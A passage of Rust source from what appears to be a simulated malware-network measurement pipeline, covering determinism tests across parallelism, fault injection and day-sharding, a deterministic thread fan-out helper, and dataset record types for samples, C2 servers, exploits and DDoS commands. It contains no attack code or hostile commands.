        rest = rest[digits_at..].trim_start_matches(|c: char| c.is_ascii_digit());
    }
    out.push_str(rest);
    out
}

/// Everything schedule- or config-variant in the stream: the day
/// rollup's `wall_us` (the stream's one wall-clock field) and
/// `study_start`'s echo of the configured parallelism and day-shard
/// count.
fn mask_variant_fields(stream: &str) -> String {
    mask_field(
        &mask_field(&mask_field(stream, "wall_us"), "parallelism"),
        "day_shards",
    )
}

/// The core differential: for each master seed, parallelism ∈ {1, 2, 8}
/// produce byte-identical datasets and vendor state.
#[test]
fn parallelism_is_invisible_in_output() {
    for seed in [7u64, 22, 1009] {
        let world = test_world(seed);
        let (base_data, base_vendors) = run_dumps(&world, seed, 1);
        assert!(
            base_data.contains("== D-Samples =="),
            "dump looks malformed"
        );
        for par in [2usize, 8] {
            let (data, vendors) = run_dumps(&world, seed, par);
            assert_eq!(
                base_data, data,
                "datasets diverged at parallelism={par}, seed={seed}"
            );
            assert_eq!(
                base_vendors, vendors,
                "vendor state diverged at parallelism={par}, seed={seed}"
            );
        }
    }
}

/// Re-running the *same* configuration twice is also byte-stable (no
/// hidden global state, time, or address-based ordering anywhere).
#[test]
fn repeat_runs_are_byte_stable() {
    let world = test_world(501);
    let first = run_dumps(&world, 501, 4);
    let second = run_dumps(&world, 501, 4);
    assert_eq!(first, second);
}

/// A parallelism knob far larger than the batch is clamped to the batch
/// and still deterministic (workers simply find the queue drained).
#[test]
fn oversubscribed_parallelism_is_safe() {
    let world = test_world(90);
    let base = run_dumps(&world, 90, 1);
    let over = run_dumps(&world, 90, 64);
    assert_eq!(base, over);
}

/// Telemetry is provably inert: with instrumentation enabled, every
/// parallelism level in {1, 2, 8, 64} produces the same bytes as the
/// uninstrumented parallelism-1 baseline. This is the ISSUE's
/// acceptance differential — telemetry reads only the host monotonic
/// clock and atomic state of its own, never the sim clock or RNG, so
/// turning it on cannot perturb a single output byte.
#[test]
fn telemetry_is_inert_across_parallelism() {
    let seed = 4242;
    let world = test_world(seed);
    let baseline = run_dumps_with(&world, seed, 1, Telemetry::disabled());
    for par in [1usize, 2, 8, 64] {
        let instrumented = run_dumps_with(&world, seed, par, Telemetry::enabled());
        assert_eq!(
            baseline, instrumented,
            "telemetry perturbed output at parallelism={par}"
        );
    }
}

/// The phase-0 static triage is observation-only: with triage on, the
/// dynamic datasets (everything before the trailing D-Triage section)
/// and the vendor state are byte-identical to a triage-off run, and
/// both configurations are themselves parallelism-invariant across
/// {1, 2, 8, 64}.
#[test]
fn static_triage_is_observation_only_across_parallelism() {
    let seed = 1337;
    let world = test_world(seed);
    let dynamic_part = |dump: &str| dump.split("== D-Triage ==").next().unwrap().to_string();
    let run = |par: usize, triage: bool| {
        let opts = PipelineOpts {
            seed,
            parallelism: par,
            max_samples: Some(30),
            static_triage: triage,
            ..PipelineOpts::fast()
        };
        let (data, vendors) = Pipeline::new(opts).run(&world);
        (data.canonical_dump(), vendors.canonical_dump())
    };

    let (on_base, on_vendors_base) = run(1, true);
    let (off_base, off_vendors_base) = run(1, false);
    // Triage actually recorded something…
    let triage_rows = on_base
        .split("== D-Triage ==")
        .nth(1)
        .expect("D-Triage section present");
    assert!(!triage_rows.trim().is_empty(), "no triage records produced");
    // …the off run recorded none…
    assert!(off_base.ends_with("== D-Triage ==\n"));
    // …and nothing dynamic moved.
    assert_eq!(dynamic_part(&on_base), dynamic_part(&off_base));
    assert_eq!(on_vendors_base, off_vendors_base);

    for par in [2usize, 8, 64] {
        let (on, on_v) = run(par, true);
        assert_eq!(
            on_base, on,
            "triage-on datasets diverged at parallelism={par}"
        );
        assert_eq!(on_vendors_base, on_v);
        let (off, off_v) = run(par, false);
        assert_eq!(
            off_base, off,
            "triage-off datasets diverged at parallelism={par}"
        );
        assert_eq!(off_vendors_base, off_v);
    }
}

/// The phase-B acceptance matrix: parallelism {1, 2, 8, 64} ×
/// fault plan {none, fixed-seed chaos} × telemetry {off, on} — every
/// cell of a fault arm produces the bytes of that arm's sequential,
/// uninstrumented baseline. This is the differential that pins the
/// phase-B split (restricted sessions and prober rounds fanning out
/// over detached networks) to the canonical sequential semantics.
#[test]
fn phase_b_matrix_is_byte_identical() {
    let seed = 6060;
    let world = test_world(seed);
    for plan in [FaultPlan::none(), FaultPlan::chaos(11)] {
        let run = |par: usize, tel: Telemetry| {
            let opts = PipelineOpts {
                seed,
                parallelism: par,
                max_samples: Some(12),
                faults: plan,
                ..PipelineOpts::fast()
            };
            let (data, vendors) = Pipeline::with_telemetry(opts, tel).run(&world);
            (data.canonical_dump(), vendors.canonical_dump())
        };
        let baseline = run(1, Telemetry::disabled());
        // Phase B actually has parallel work to disagree on: the run
        // discovered C2s (restricted-session jobs) and probed servers.
        assert!(
            baseline.0.contains("== D-C2s ==") && !baseline.0.is_empty(),
            "matrix baseline looks degenerate"
        );
        for par in [1usize, 2, 8, 64] {
            for instrumented in [false, true] {
                if par == 1 && !instrumented {
                    continue; // that cell *is* the baseline
                }
                let tel = if instrumented {
                    Telemetry::enabled()
                } else {
                    Telemetry::disabled()
                };
                let cell = run(par, tel);
                assert_eq!(
                    baseline,
                    cell,
                    "phase-B matrix diverged at parallelism={par}, \
                     telemetry={instrumented}, chaos={}",
                    !plan.is_none()
                );
            }
        }
    }
}

/// The block-engine axis: the block-cached MIPS interpreter (the
/// default) is an observationally exact replacement for the stepping
/// oracle, so parallelism {1, 2, 8, 64} × chaos {none, fixed-seed} ×
/// block-engine {off, on} all produce the bytes of the sequential
/// oracle baseline. This is what lets the speedup default to ON without
/// an accuracy asterisk anywhere in the study.
#[test]
fn block_engine_matrix_is_byte_identical() {
    let seed = 4141;
    let world = test_world(seed);
    for plan in [FaultPlan::none(), FaultPlan::chaos(23)] {
        let run = |par: usize, block: bool| {
            let opts = PipelineOpts {
                seed,
                parallelism: par,
                max_samples: Some(12),
                faults: plan,
                block_engine: block,
                ..PipelineOpts::fast()
            };
            let (data, vendors) = Pipeline::new(opts).run(&world);
            (data.canonical_dump(), vendors.canonical_dump())
        };
        // Baseline: sequential, legacy stepping interpreter.
        let baseline = run(1, false);
        assert!(
            baseline.0.contains("== D-Samples ==") && !baseline.0.is_empty(),
            "matrix baseline looks degenerate"
        );
        for par in [1usize, 2, 8, 64] {
            for block in [false, true] {
                if par == 1 && !block {
                    continue; // that cell *is* the baseline
                }
                let cell = run(par, block);
                assert_eq!(
                    baseline,
                    cell,
                    "block-engine matrix diverged at parallelism={par}, \
                     block_engine={block}, chaos={}",
                    !plan.is_none()
                );
            }
        }
    }
}

/// Faults-off ≡ seed bytes: a `FaultPlan` whose rates are all zero —
/// even with a non-zero `fault_seed` — draws no randomness and perturbs
/// nothing, so the run is byte-identical to the chaos-unaware baseline
/// at every parallelism level.
#[test]
fn empty_fault_plan_is_invisible() {
    let seed = 2024;
    let world = test_world(seed);
    let baseline = run_dumps(&world, seed, 1);
    for par in [1usize, 2, 8, 64] {
        let opts = PipelineOpts {
            seed,
            parallelism: par,
            max_samples: Some(30),
            faults: FaultPlan {
                fault_seed: 99,
                ..FaultPlan::none()
            },
            ..PipelineOpts::fast()
        };
        let (data, vendors) = Pipeline::new(opts).run(&world);
        assert_eq!(
            baseline,
            (data.canonical_dump(), vendors.canonical_dump()),
            "empty fault plan changed bytes at parallelism={par}"
        );
    }
}

/// The emulator fault domain at rate zero is invisible: an `emu_sweep`
/// plan at intensity 0.0 — fault seed set, every rate zero — is exactly
/// `FaultPlan::none()` plus a seed, draws no RNG anywhere (including
/// inside the sandbox's syscall layer), and reproduces the chaos-unaware
/// baseline's bytes across parallelism {1, 2, 8, 64} × block-engine
/// {off, on}.
#[test]
fn emu_fault_domain_is_inert_at_zero_rates() {
    let seed = 3131;
    let world = test_world(seed);
    let run = |par: usize, block: bool, plan: FaultPlan| {
        let opts = PipelineOpts {
            seed,
            parallelism: par,
            max_samples: Some(20),
            faults: plan,
            block_engine: block,
            ..PipelineOpts::fast()
        };
        let (data, vendors) = Pipeline::new(opts).run(&world);
        (data.canonical_dump(), vendors.canonical_dump())
    };
    let baseline = run(1, true, FaultPlan::none());
    let zero = FaultPlan::emu_sweep(77, 0.0);
    assert!(zero.is_none(), "intensity 0.0 should be the empty plan");
    for par in [1usize, 2, 8, 64] {
        for block in [false, true] {
            assert_eq!(
                baseline,
                run(par, block, zero),
                "zero-rate emu plan changed bytes at parallelism={par}, \
                 block_engine={block}"
            );
        }
    }
}

/// The emulator fault axis of the determinism matrix: a fixed-seed,
/// emulator-only plan (syscall-boundary short I/O, EINTR, ENOMEM,
/// fd-cap squeeze — no world-side chaos at all) produces byte-identical
/// datasets and vendor state across parallelism {1, 2, 8, 64} ×
/// block-engine {off, on}, because every injection decision is a pure
/// function of `(fault_seed, day, sample, syscall-index)` and the
/// guest's syscall stream is itself deterministic. And the plan is not
/// a no-op: the faulted run's bytes differ from the chaos-free
/// baseline's.
#[test]
fn emu_fault_matrix_is_byte_identical() {
    let seed = 5252;
    let world = test_world(seed);
    let plan = FaultPlan::emu_sweep(9, 1.0);
    let run = |par: usize, block: bool| {
        let opts = PipelineOpts {
            seed,
            parallelism: par,
            max_samples: Some(20),
            faults: plan,
            block_engine: block,
            ..PipelineOpts::fast()
        };
        let (data, vendors) = Pipeline::new(opts).run(&world);
        (data, vendors)
    };
    // Baseline: sequential, legacy stepping interpreter, faults armed.
    // Run it with telemetry to prove the sub-plans really reached the
    // sandbox (telemetry is observation-only; a sibling test pins that).
    let tel = Telemetry::enabled();
    let (base_data, base_vendors) = {
        let opts = PipelineOpts {
            seed,
            parallelism: 1,
            max_samples: Some(20),
            faults: plan,
            block_engine: false,
            ..PipelineOpts::fast()
        };
        Pipeline::with_telemetry(opts, tel.clone()).run(&world)
    };
    let baseline = (base_data.canonical_dump(), base_vendors.canonical_dump());
    assert!(
        tel.report()
            .counter("chaos.emu_faults_injected")
            .unwrap_or(0)
            > 0,
        "no emulator faults injected — sub-plans never reached the sandbox"
    );
    for par in [1usize, 2, 8, 64] {
        for block in [false, true] {
            if par == 1 && !block {
                continue; // that cell *is* the baseline
            }
            let (data, vendors) = run(par, block);
            assert_eq!(
                baseline,
                (data.canonical_dump(), vendors.canonical_dump()),
                "emu fault matrix diverged at parallelism={par}, block_engine={block}"
            );
        }
    }
    // Not a no-op: the same study without the plan reads differently.
    let clean = {
        let opts = PipelineOpts {
            seed,
            parallelism: 1,
            max_samples: Some(20),
            ..PipelineOpts::fast()
        };
        let (data, _) = Pipeline::new(opts).run(&world);
        data.canonical_dump()
    };
    assert_ne!(
        clean, baseline.0,
        "full-intensity emu faults left the datasets untouched"
    );
}

/// The chaos differential: with a fixed fault seed the study (1) always
/// completes instead of aborting, (2) produces well-formed datasets,
/// (3) quarantines at least one injected failure into D-Health, and
/// (4) is byte-identical across parallelism {1, 2, 8, 64}.
#[test]
fn chaos_runs_are_deterministic_and_complete() {
    let seed = 909;
    let world = test_world(seed);
    let run = |par: usize| {
        let opts = PipelineOpts {
            seed,
            parallelism: par,
            max_samples: Some(30),
            faults: FaultPlan::chaos(7),
            syn_retries: 1,
            ..PipelineOpts::fast()
        };
        Pipeline::new(opts).run(&world)
    };
    let (base_data, base_vendors) = run(1);
    let base = base_data.canonical_dump();
    // Well-formed: every section header present, in canonical order.
    let mut at = 0;
    for header in [
        "== D-Samples ==",
        "== D-C2s ==",
        "== D-PC2 ==",
        "== D-Exploits ==",
        "== D-DDOS ==",
        "== D-Health ==",
        "== D-Triage ==",
    ] {
        let pos = base[at..]
            .find(header)
            .unwrap_or_else(|| panic!("chaos dump lost section {header}"));
        at += pos;
    }
    // Degradation is visible, and the study still produced data.
    assert!(
        base_data.health.quarantined() >= 1,
        "chaos run quarantined nothing: {:?}",
        base_data.health
    );
    assert!(!base_data.health.exit_counts.is_empty());
    assert!(
        !base_data.samples.is_empty(),
        "chaos run profiled no samples at all"
    );
    for par in [2usize, 8, 64] {
        let (data, vendors) = run(par);
        assert_eq!(
            base,
            data.canonical_dump(),
            "chaos datasets diverged at parallelism={par}"
        );
        assert_eq!(
            base_vendors.canonical_dump(),
            vendors.canonical_dump(),
            "chaos vendor state diverged at parallelism={par}"
        );
    }
    // And the plan actually perturbed the run.
    let clean = run_dumps(&world, seed, 1);
    assert_ne!(clean.0, base, "chaos plan left the datasets untouched");
}

/// Regression for the old abort-on-panic behaviour: a forced phase-A
/// worker panic must quarantine only its own sample — every other
/// sample of the day is still profiled and lands in D-Samples.
#[test]
fn phase_a_panic_no_longer_aborts_the_run() {
    let seed = 31;
    let world = test_world(seed);
    let opts = PipelineOpts {
        seed,
        parallelism: 4,
        max_samples: Some(30),
        faults: FaultPlan {
            fault_seed: 5,
            panic_rate: 0.3,
            ..FaultPlan::none()
        },
        ..PipelineOpts::fast()
    };
    let (data, _) = Pipeline::new(opts).run(&world);
    let quarantined = data.health.quarantined();
    assert!(
        quarantined >= 1,
        "panic_rate=0.3 over 30 samples forced no panic"
    );
    assert!(
        !data.samples.is_empty(),
        "a worker panic still takes out the whole study"
    );
    // Conservation: every analyzed sample either was profiled or sits in
    // quarantine — none silently vanished.
    assert_eq!(data.samples.len() + quarantined, 30);
    for row in &data.health.rows {
        assert!(
            row.detail.contains("chaos: forced"),
            "unexpected row {row:?}"
        );
        assert_eq!(row.fault_context, vec!["forced worker panic".to_string()]);
    }
}

/// Even under heavy link faults, the sandbox's capture artifacts stay
/// parseable: corruption is injected *semantically* (payload bytes) so
/// the pcap container itself never breaks.
#[test]
fn chaos_pcaps_stay_parseable() {
    use malnet_netsim::net::Network;
    use malnet_netsim::time::{SimDuration, SimTime};
    use malnet_sandbox::{AnalysisMode, Sandbox, SandboxConfig};

    let world = test_world(64);
    for (i, sample) in world.samples.iter().take(8).enumerate() {
        let mut net = Network::new(SimTime::from_day(0, 0), 900 + i as u64);
        net.faults.loss = 0.3;
        net.faults.corrupt = 0.4;
        let mut sb = Sandbox::new(
            net,
            SandboxConfig {
                bot_ip: std::net::Ipv4Addr::new(100, 64, 0, 2),
                mode: AnalysisMode::Contained,
                handshaker_threshold: Some(5),
                instruction_budget: 100_000_000,
                seed: 77 + i as u64,
                ..Default::default()
            },
        );
        let art = sb.execute(&sample.elf, SimDuration::from_secs(60));
        let parsed = malnet_wire::pcap::parse_capture(&art.pcap);
        assert!(
            parsed.is_ok(),
            "sample {i}: capture unparseable under faults: {parsed:?}"
        );
    }
}

/// The telemetry counters themselves are schedule-independent: every
/// counter driven by simulation events (samples activated, C2s
/// detected, packets delivered, instructions retired, ...) totals the
/// same at parallelism 1 and 8. Only wall-clock span durations may
/// differ between runs.
#[test]
fn telemetry_counters_are_parallelism_invariant() {
    let seed = 77;
    let world = test_world(seed);
    let mut reports = Vec::new();
    for par in [1usize, 8] {
        let tel = Telemetry::enabled();
        run_dumps_with(&world, seed, par, tel.clone());
        reports.push(tel.report());
    }
    let (seq, par) = (&reports[0], &reports[1]);
    assert!(
        !seq.counters.is_empty(),
        "instrumented run recorded nothing"
    );
    assert_eq!(
        seq.counters, par.counters,
        "counter totals diverged between parallelism 1 and 8"
    );
    // Histogram *contents* (bucket populations, not timings) must agree too.
    assert_eq!(seq.histograms.len(), par.histograms.len());
    for (a, b) in seq.histograms.iter().zip(&par.histograms) {
        assert_eq!(a, b, "histogram {} diverged across parallelism", a.name);
    }
    // Per-day rollups are emitted by the sequential coordinator and carry
    // a wall-time field; compare everything but that.
    assert_eq!(seq.rollups.len(), par.rollups.len());
    let strip = |fields: &[(String, u64)]| {
        fields
            .iter()
            .filter(|(k, _)| k != "wall_us")
            .cloned()
            .collect::<Vec<_>>()
    };
    for ((ak, af), (bk, bf)) in seq.rollups.iter().zip(&par.rollups) {
        assert_eq!(ak, bk);
        assert_eq!(strip(af), strip(bf), "rollup {ak} diverged");
    }
}

/// The event-streaming axis: attaching a `malnet.events` sink is
/// provably inert — parallelism {1, 2, 8, 64} × chaos {none, fixed}
/// with the sink attached all reproduce the sink-less sequential
/// baseline's bytes — and the stream itself upholds the consistency
/// contract: it validates structurally and its fold reconstructs the
/// final report's counters and rollup rows exactly. Because every event
/// is emitted at a coordinator sync point from deterministic state, the
/// stream is also byte-identical across parallelism levels once its two
/// variant fields are masked: the day rollup's `wall_us` (wall clock)
/// and `study_start`'s echo of the configured parallelism.
#[test]
fn event_streaming_is_inert_and_foldable() {
    use malnet_telemetry::events::{fold_matches_report, validate_stream};
    use malnet_telemetry::EventSink;

    let seed = 8181;
    let world = test_world(seed);
    for plan in [FaultPlan::none(), FaultPlan::chaos(17)] {
        let run = |par: usize, tel: Telemetry| {
            let opts = PipelineOpts {
                seed,
                parallelism: par,
                max_samples: Some(12),
                faults: plan,
                ..PipelineOpts::fast()
            };
            let (data, vendors) = Pipeline::with_telemetry(opts, tel).run(&world);
            (data.canonical_dump(), vendors.canonical_dump())
        };
        let baseline = run(1, Telemetry::disabled());
        assert!(
            baseline.0.contains("== D-Health =="),
            "baseline dump lacks the health section the stream narrates"
        );
        let mut masked_streams: Vec<String> = Vec::new();
        let mut folded_reports = Vec::new();
        for par in [1usize, 2, 8, 64] {
            let sink = EventSink::in_memory();
            let tel = Telemetry::enabled_with_events(sink.clone());
            let cell = run(par, tel.clone());
            assert_eq!(
                baseline,
                cell,
                "event streaming perturbed output at parallelism={par}, chaos={}",
                !plan.is_none()
            );
            let stream = sink.contents().expect("in-memory sink");
            let summary = validate_stream(&stream)
                .unwrap_or_else(|e| panic!("invalid stream at parallelism={par}: {e}"));
            let report = tel.report();
            fold_matches_report(&summary, &report)
                .unwrap_or_else(|e| panic!("fold mismatch at parallelism={par}: {e}"));
            if !plan.is_none() {
                assert!(
                    summary.chaos_events > 0,
                    "chaos run streamed no chaos events"
                );
            }
            masked_streams.push(mask_variant_fields(&stream));
            let rollups_no_wall: Vec<(String, Vec<(String, u64)>)> = summary
                .rollups
                .into_iter()
                .map(|(key, fields)| {
                    (
                        key,
                        fields.into_iter().filter(|(n, _)| n != "wall_us").collect(),
                    )
                })
                .collect();
            folded_reports.push((summary.final_counters, rollups_no_wall));
        }
        for (i, stream) in masked_streams.iter().enumerate().skip(1) {
            assert_eq!(
                &masked_streams[0],
                stream,
                "event stream (wall_us masked) diverged between parallelism 1 \
                 and {}, chaos={}",
                [1usize, 2, 8, 64][i],
                !plan.is_none()
            );
            assert_eq!(&folded_reports[0], &folded_reports[i]);
        }
    }
}

/// The ISSUE's day-epoch acceptance matrix: day-shards {1, 2, 8} ×
/// parallelism {1, 8} × fault plan {none, fixed-seed chaos} — every
/// cell produces the bytes of that fault arm's unsharded, sequential
/// baseline. This is the headline differential of the epoch refactor:
/// splitting the study into mergeable day-range epochs (each carrying
/// its own vendor-knowledge delta and C2 tracking residue, stitched by
/// the deterministic reduce) must be invisible in every dataset and
/// vendor-state byte, including liveness transitions that straddle an
/// epoch boundary.
#[test]
fn day_shard_matrix_is_byte_identical() {
    let seed = 7272;
    let world = test_world(seed);
    for plan in [FaultPlan::none(), FaultPlan::chaos(29)] {
        let run = |shards: usize, par: usize| {
            let opts = PipelineOpts {
                seed,
                parallelism: par,
                day_shards: shards,
                max_samples: Some(24),
                faults: plan,
                ..PipelineOpts::fast()
            };
            let (data, vendors) = Pipeline::new(opts).run(&world);
            (data.canonical_dump(), vendors.canonical_dump())
        };
        let baseline = run(1, 1);
        // The matrix must have cross-day state to disagree on: tracked
        // C2s with observed live days, spread over several study days.
        assert!(
            baseline.0.contains("== D-C2s ==") && baseline.0.contains("live_days"),
            "baseline has no liveness tracking to stitch"
        );
        for shards in [1usize, 2, 8] {
            for par in [1usize, 8] {
                if shards == 1 && par == 1 {
                    continue; // that cell *is* the baseline
                }
                let cell = run(shards, par);
                assert_eq!(
                    baseline,
                    cell,
                    "day-shard matrix diverged at day_shards={shards}, \
                     parallelism={par}, chaos={}",
                    !plan.is_none()
                );
            }
        }
    }
}

/// The epoch-sharded event stream upholds the same contracts as the
/// unsharded one: it validates structurally, its fold reconstructs the
/// final report's counters and rollup rows exactly
/// (`fold_matches_report`), and — with the wall-clock and echoed-config
/// fields masked — the stream is byte-identical across day-shard and
/// parallelism choices, because every day event is emitted by the
/// reduce's chronological fold from recorded per-day deltas.
#[test]
fn epoch_sharded_stream_is_foldable_and_shard_invariant() {
    use malnet_telemetry::events::{fold_matches_report, validate_stream};
    use malnet_telemetry::EventSink;

    let seed = 9393;
    let world = test_world(seed);
    let run = |shards: usize, par: usize| {
        let sink = EventSink::in_memory();
        let tel = Telemetry::enabled_with_events(sink.clone());
        let opts = PipelineOpts {
            seed,
            parallelism: par,
            day_shards: shards,
            max_samples: Some(24),
            ..PipelineOpts::fast()
        };
        let (data, vendors) = Pipeline::with_telemetry(opts, tel.clone()).run(&world);
        let stream = sink.contents().expect("in-memory sink");
        (
            stream,
            tel.report(),
            (data.canonical_dump(), vendors.canonical_dump()),
        )
    };
    let (base_stream, base_report, base_dumps) = run(1, 1);
    let base_summary = validate_stream(&base_stream).expect("baseline stream invalid");
    fold_matches_report(&base_summary, &base_report).expect("baseline fold mismatch");
    assert!(
        base_summary.days.len() > 2,
        "study too short to exercise epoch boundaries"
    );
    for shards in [2usize, 8] {
        for par in [1usize, 8] {
            let (stream, report, dumps) = run(shards, par);
            let summary = validate_stream(&stream).unwrap_or_else(|e| {
                panic!("invalid stream at day_shards={shards}, parallelism={par}: {e}")
            });
            fold_matches_report(&summary, &report).unwrap_or_else(|e| {
                panic!("fold mismatch at day_shards={shards}, parallelism={par}: {e}")
            });
            assert_eq!(base_dumps, dumps, "dumps diverged at day_shards={shards}");
            assert_eq!(
                mask_variant_fields(&base_stream),
                mask_variant_fields(&stream),
                "masked stream diverged at day_shards={shards}, parallelism={par}"
            );
        }
    }
}
