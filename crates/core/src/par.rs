//! The pipeline's deterministic fan-out primitive.
//!
//! Every parallel stage — phase A's contained activations, phase B's
//! restricted sessions, the prober's per-day rounds, the reduce's
//! liveness probes, and the day-epoch pool itself (whole contiguous
//! day-ranges run as `EpochRun` units, nesting their own per-sample
//! fan-outs inside; see DESIGN.md §8a) — shares the same scheduling
//! discipline: worker threads pull item indices from a shared counter,
//! each item's result is written into its own index-addressed slot,
//! and the caller reads the slots back in item order. The *completion* order is scheduling-dependent; the returned
//! order never is — which is the first leg of the byte-determinism
//! argument in DESIGN.md §8 (the second leg is that `run` itself must
//! be a pure function of the item).

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Mutex;

/// Run `run(i)` for every `i in 0..count` over at most `workers` OS
/// threads and return the results in item order.
///
/// `workers <= 1` (or a single item) is the plain sequential loop —
/// byte-identical to the fan-out by construction, and the path the
/// determinism differentials compare against. `run` is shared by
/// reference across threads, so it must be `Sync`; panics inside `run`
/// propagate out of the scope exactly as they would from the
/// sequential loop (callers that need containment wrap `run` in
/// `catch_unwind`, as phase A does).
///
/// `missing(i)` fills a slot whose worker died before writing it —
/// reachable only through a harness bug (a panicking `run` tears down
/// the whole scope first), but degrading beats aborting a multi-day
/// study on such a bug.
pub(crate) fn fan_out<R, F, M>(count: usize, workers: usize, run: F, missing: M) -> Vec<R>
where
    R: Send,
    F: Fn(usize) -> R + Sync,
    M: Fn(usize) -> R,
{
    let workers = workers.max(1).min(count);
    if workers <= 1 {
        return (0..count).map(run).collect();
    }
    let next = AtomicUsize::new(0);
    let slots: Vec<Mutex<Option<R>>> = (0..count).map(|_| Mutex::new(None)).collect();
    std::thread::scope(|scope| {
        for _ in 0..workers {
            scope.spawn(|| loop {
                let i = next.fetch_add(1, Ordering::Relaxed);
                if i >= count {
                    break;
                }
                let out = run(i);
                // The lock can only be poisoned by a panic inside this
                // very assignment; take the data rather than aborting.
                *slots[i]
                    .lock()
                    .unwrap_or_else(std::sync::PoisonError::into_inner) = Some(out);
            });
        }
    });
    slots
        .into_iter()
        .enumerate()
        .map(|(i, slot)| {
            slot.into_inner()
                .unwrap_or_else(std::sync::PoisonError::into_inner)
                .unwrap_or_else(|| missing(i))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn results_come_back_in_item_order_at_any_width() {
        let base: Vec<usize> = (0..97).map(|i| i * 3).collect();
        for workers in [1usize, 2, 7, 64] {
            let out = fan_out(97, workers, |i| i * 3, |_| usize::MAX);
            assert_eq!(out, base, "order broke at workers={workers}");
        }
    }

    #[test]
    fn empty_input_is_fine() {
        let out: Vec<u8> = fan_out(0, 8, |_| 1, |_| 0);
        assert!(out.is_empty());
    }
}
