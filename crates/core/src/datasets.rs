//! The five datasets of Table 1, as the pipeline produces them.

use std::collections::BTreeMap;
use std::net::Ipv4Addr;

use malnet_protocols::{AttackCommand, Family, TargetProtocol};

use malnet_botgen::exploitdb::VulnId;

/// One collected sample (D-Samples row).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SampleRecord {
    /// Feed hash.
    pub sha256: String,
    /// Publish/collection day.
    pub day: u32,
    /// YARA-derived family label.
    pub yara_family: Option<String>,
    /// AVClass2-derived label (with its known MIPS quirks).
    pub avclass_family: Option<String>,
    /// AV engines flagging the file.
    pub av_detections: u32,
    /// Did the binary activate in the sandbox?
    pub activated: bool,
    /// C2 addresses this sample referred to (D-C2s keys).
    pub c2_addrs: Vec<String>,
    /// Guest instructions executed during analysis (diagnostics).
    pub instructions: u64,
}

/// One C2 address (D-C2s row), aggregated over every sample and day that
/// touched it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct C2Record {
    /// Address (IP string or domain).
    pub addr: String,
    /// Resolved/contacted IP.
    pub ip: Ipv4Addr,
    /// Port.
    pub port: u16,
    /// DNS-named?
    pub dns: bool,
    /// Hosting ASN (from the AS registry).
    pub asn: Option<u32>,
    /// Day the pipeline first saw it.
    pub first_seen_day: u32,
    /// Distinct sample hashes referring to it.
    pub samples: Vec<String>,
    /// Days the address answered a liveness probe.
    pub live_days: Vec<u32>,
    /// Flagged malicious by the feeds on the discovery day?
    pub vt_day0: bool,
    /// Number of vendors flagging it on the discovery day.
    pub vt_day0_vendors: usize,
    /// Flagged malicious at the final re-query?
    pub vt_late: bool,
    /// Number of vendors flagging it at the final re-query.
    pub vt_late_vendors: usize,
    /// Traffic matched a known C2 protocol (manual-verification stand-in).
    pub protocol_verified: bool,
    /// Families whose samples referred to it.
    pub families: Vec<Family>,
}

impl C2Record {
    /// Observed lifespan in days: last live − first live + 1; 0 when the
    /// server was never seen alive.
    pub fn observed_lifespan(&self) -> u32 {
        match (self.live_days.iter().min(), self.live_days.iter().max()) {
            (Some(a), Some(b)) => b - a + 1,
            _ => 0,
        }
    }
}

/// The D-PC2 probing matrix for one discovered server.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ProbedC2 {
    /// Server address.
    pub ip: Ipv4Addr,
    /// Probed port.
    pub port: u16,
    /// One entry per probe: (probe index, engaged?).
    pub probes: Vec<(u32, bool)>,
}

impl ProbedC2 {
    /// Count of engaged probes.
    pub fn responses(&self) -> usize {
        self.probes.iter().filter(|(_, r)| *r).count()
    }
}

/// One extracted exploit (D-Exploits row).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExploitRecord {
    /// Sample hash.
    pub sha256: String,
    /// Collection day.
    pub day: u32,
    /// Vulnerabilities evidenced by the payload.
    pub vulns: Vec<VulnId>,
    /// Attacked port.
    pub port: u16,
    /// Downloader address in the payload.
    pub downloader: Option<Ipv4Addr>,
    /// Loader filename in the payload.
    pub loader: Option<String>,
    /// Raw payload bytes.
    pub payload: Vec<u8>,
}

/// How a DDoS command was detected (§2.5 methods a and b).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum DdosDetection {
    /// Decoded by a family protocol profiler.
    Profiler,
    /// Caught by the ≥100-pps behavioural heuristic.
    Behavioral,
    /// Found by both.
    Both,
}

/// One observed DDoS command (D-DDOS row).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DdosRecord {
    /// Sample hash.
    pub sha256: String,
    /// Bot family.
    pub family: Family,
    /// Issuing C2 address.
    pub c2_addr: String,
    /// Issuing C2 IP.
    pub c2_ip: Ipv4Addr,
    /// Day observed.
    pub day: u32,
    /// The decoded command.
    pub command: AttackCommand,
    /// Detection method.
    pub detection: DdosDetection,
    /// Peak packets-per-second measured toward the target.
    pub measured_pps: u64,
    /// Verified (bot actually flooded the commanded target)?
    pub verified: bool,
    /// Target protocol classification (Figure 10).
    pub target_protocol: TargetProtocol,
    /// Was the C2 flagged by the feeds on the attack day?
    pub c2_known_to_feeds: bool,
}

/// Phase-0 static triage result for one sample (D-Triage row): what
/// `malnet-xray` learned from the raw ELF bytes before the sandbox ran
/// a single instruction. Observation-only — nothing downstream branches
/// on it — so the dynamic datasets are byte-identical with triage on or
/// off.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TriageRecord {
    /// Sample hash.
    pub sha256: String,
    /// Analysis day.
    pub day: u32,
    /// Did the ELF parse?
    pub valid_elf: bool,
    /// Structural lint codes raised (sorted as reported).
    pub lints: Vec<String>,
    /// Were network syscalls reachable from the entry point?
    pub net_capable: bool,
    /// Embedded bytecode records decoded.
    pub bytecode_records: usize,
    /// Embedded bytecode records skipped as undecodable.
    pub bytecode_skipped: usize,
    /// Statically recovered C2 candidate addresses (same key convention
    /// as D-C2s), sorted and deduplicated.
    pub candidates: Vec<String>,
    /// Total endpoints recovered (C2 + resolver + peer).
    pub endpoints: usize,
}

/// Why a sample landed in D-Health instead of (or in addition to) the
/// regular datasets.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum HealthKind {
    /// The phase-A worker panicked; the sample was quarantined and the
    /// study continued without it.
    WorkerPanic,
    /// The contained sandbox reported a CPU fault (segfault, illegal
    /// instruction, unloadable/malformed ELF).
    SandboxFault,
    /// The contained sandbox exhausted its instruction budget (guest
    /// hung in a compute loop).
    BudgetExhausted,
